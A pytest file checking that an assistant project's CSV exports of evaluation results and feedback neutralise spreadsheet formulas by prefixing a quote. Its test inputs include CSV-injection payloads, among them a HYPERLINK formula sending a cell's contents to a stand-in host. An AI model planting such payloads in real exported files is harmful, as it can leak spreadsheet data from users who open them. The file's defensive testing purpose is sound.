"""Exported CSVs (evaluation results, feedback) never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
from pathlib import Path

from assistant import Answer, inert
from evaluation import metrics as m
from evaluation.questions import Question
from evaluation.runner import write_outputs
from web.feedback import FeedbackStore

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_inert_marks_only_formula_text() -> None:
    assert [inert(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert inert("\t=1") == "'\t=1"
    assert [inert(v) for v in ("Who met?", "", -2.5, 3, "a=b")] == ["Who met?", "", -2.5, 3, "a=b"]


def test_results_csv_cells_are_inert(tmp_path: Path) -> None:
    pairs = [
        (
            Question(id=f"h{i}", question=text, answerable=True, gold=["x"]),
            Answer(text, text, "not_found", "The documents don't contain an answer.", []),
        )
        for i, text in enumerate(HOSTILE)
    ]
    write_outputs(tmp_path, pairs, m.summarize(pairs), title="hostile")
    rows = _rows(tmp_path / "results.csv")
    assert [r["question"] for r in rows] == ["'" + text for text in HOSTILE]
    assert all(r["latency_ms"] == "0.0" for r in rows)  # numbers stay numbers


def test_feedback_export_cells_are_inert(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    for n, text in enumerate(HOSTILE):
        store.record(f"answer-{n}", "dislike", text, "=" + text, [])
    assert store.export_csv(tmp_path / "out.csv") == len(HOSTILE)
    rows = _rows(tmp_path / "out.csv")
    assert [r["question"] for r in rows] == ["'" + text for text in HOSTILE]
    assert all(r["answer"].startswith("'=") for r in rows)
    assert [r["rating"] for r in rows] == ["dislike"] * len(HOSTILE)
